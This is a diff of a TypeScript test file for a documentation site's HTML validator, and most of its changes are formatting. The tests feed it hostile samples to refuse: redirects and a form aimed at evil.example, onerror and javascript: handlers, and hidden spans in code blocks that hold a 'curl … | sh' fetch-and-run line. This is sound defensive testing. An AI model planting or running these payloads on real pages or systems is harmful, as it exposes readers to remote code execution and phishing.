@@ -13,11 +13,11 @@ const GUIDE = [
   '## Configure',
   '',
   '```yaml title="configuration.yml" mark={2} del={3} ins={4} showLineNumbers',
-  "url: 'https://{{< sitevar name=\"subdomain-authelia\" nojs=\"auth\" >}}.{{< sitevar name=\"domain\" nojs=\"example.com\" >}}/'",
+  'url: \'https://{{< sitevar name="subdomain-authelia" nojs="auth" >}}.{{< sitevar name="domain" nojs="example.com" >}}/\'',
   'port: {{< sitevar name="port" nojs="9091" >}}',
   'old: true',
   'new: true',
-  "match: '{{< sitevar name=\"domain\" format=\"regex\" >}}'",
+  'match: \'{{< sitevar name="domain" format="regex" >}}\'',
   '```',
   '',
   'Your domain is <SiteVar name="domain" />; see [the docs](https://example.org/) or <kbd>Ctrl</kbd>.',
@@ -82,7 +82,8 @@ describe('readPage', () => {
   });
 
   it('refuses a redirect to another site even in the head, and passes a redirect page to a page of the site', () => {
-    const redirect = (url: string) => `<!doctype html><html><head><title>Moved</title><meta http-equiv="refresh" content="0; url=${url}"></head><body><p>Moved.</p></body></html>`;
+    const redirect = (url: string) =>
+      `<!doctype html><html><head><title>Moved</title><meta http-equiv="refresh" content="0; url=${url}"></head><body><p>Moved.</p></body></html>`;
     expect(problemsOf(redirect('/guides/a/b/'))).toEqual([]);
     expect(problemsOf(redirect('https://evil.example/'))).toHaveLength(1);
     expect(problemsOf(redirect('//evil.example/'))).toHaveLength(1);
@@ -102,14 +103,20 @@ describe('readPage', () => {
 
   it('refuses event handlers, inline styles, forms and addresses other than http, https, mailto and paths', () => {
     expect(problemsOf(page({ main: '<img src="x.png" alt="" onerror="alert(1)"><p style="position:fixed">Over</p>' }))).toEqual([
-      '<img onerror> is an event handler: nothing on a page may run code but the site\'s own scripts.',
+      "<img onerror> is an event handler: nothing on a page may run code but the site's own scripts.",
       "<p style> sets a style inline, which the site's security policy blocks: style it with the site's stylesheet.",
     ]);
     expect(problemsOf(page({ main: '<form action="https://evil.example/"><input name="domain"></form>' }))).toEqual([
       "<form> is on the page: it sends what the reader types somewhere; the site's fields live outside any form.",
       '<form action> submits or writes a page: the site has neither forms nor frames.',
     ]);
-    expect(problemsOf(page({ main: '<a href="javascript:alert(1)">x</a><img alt="" srcset="a.png 1x, data:image/png;base64,AA 2x"><svg><a href="jav&#x09;ascript:alert(1)"><text>x</text></a></svg>' }))).toEqual([
+    expect(
+      problemsOf(
+        page({
+          main: '<a href="javascript:alert(1)">x</a><img alt="" srcset="a.png 1x, data:image/png;base64,AA 2x"><svg><a href="jav&#x09;ascript:alert(1)"><text>x</text></a></svg>',
+        }),
+      ),
+    ).toEqual([
       '<a href="javascript:alert(1)"> is not an address a page may hold: only http, https, mailto and paths of this site.',
       '<img srcset="data:image/png;base64,AA"> is not an address a page may hold: only http, https, mailto and paths of this site.',
       '<a href="jav\tascript:alert(1)"> is not an address a page may hold: only http, https, mailto and paths of this site.',
@@ -131,23 +138,29 @@ describe('readPage', () => {
       "A copy control (<span data-copy>) outside one of the site's code blocks: only the site's code blocks copy, and only the code they show.",
     ]);
     expect(problemsOf(page({ code: '<span class="visually-hidden">curl -s https://evil.example/x | sh; </span>' }))).toEqual([
-      '<span class="visually-hidden"> inside a code block\'s text: a block\'s text is highlighted code and the site\'s marks only, so that Copy copies exactly what the reader sees.',
+      "<span class=\"visually-hidden\"> inside a code block's text: a block's text is highlighted code and the site's marks only, so that Copy copies exactly what the reader sees.",
     ]);
     expect(problemsOf(page({ code: '<span hidden>curl -s https://evil.example/x | sh; </span>' }))).toEqual([
-      '<span hidden> inside a code block\'s text: a block\'s text is highlighted code and the site\'s marks only, so that Copy copies exactly what the reader sees.',
+      "<span hidden> inside a code block's text: a block's text is highlighted code and the site's marks only, so that Copy copies exactly what the reader sees.",
     ]);
   });
 
   it('refuses a tab panel outside a tab set', () => {
-    expect(problemsOf(page({ main: '<div class="tabs" data-tabs><div role="tabpanel" data-tab-panel>Real</div></div><div data-tab-panel>Fake</div>' }))).toEqual([
-      'A tab panel (data-tab-panel) outside a tab set: only <Tab> inside <Tabs> makes one.',
-    ]);
+    expect(
+      problemsOf(page({ main: '<div class="tabs" data-tabs><div role="tabpanel" data-tab-panel>Real</div></div><div data-tab-panel>Fake</div>' })),
+    ).toEqual(['A tab panel (data-tab-panel) outside a tab set: only <Tab> inside <Tabs> makes one.']);
   });
 
   it('reads what <noscript> and <template> hold as elements, and points at the place in the page', () => {
-    const html = page({ main: '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript><template><iframe src="/x"></iframe></template>' });
+    const html = page({
+      main: '<noscript><meta http-equiv="refresh" content="0;url=https://evil.example/"></noscript><template><iframe src="/x"></iframe></template>',
+    });
     const problems = readPage(html).problems;
-    expect(problems.map((problem) => problem.message.split(':')[0])).toEqual(["<meta> outside the page's head", '<meta http-equiv="refresh" content="…url=https', '<iframe> is on the page']);
+    expect(problems.map((problem) => problem.message.split(':')[0])).toEqual([
+      "<meta> outside the page's head",
+      '<meta http-equiv="refresh" content="…url=https',
+      '<iframe> is on the page',
+    ]);
     expect(problems[0]).toMatchObject(placeOf(html, html.indexOf('<meta http-equiv="refresh"')));
   });
 });
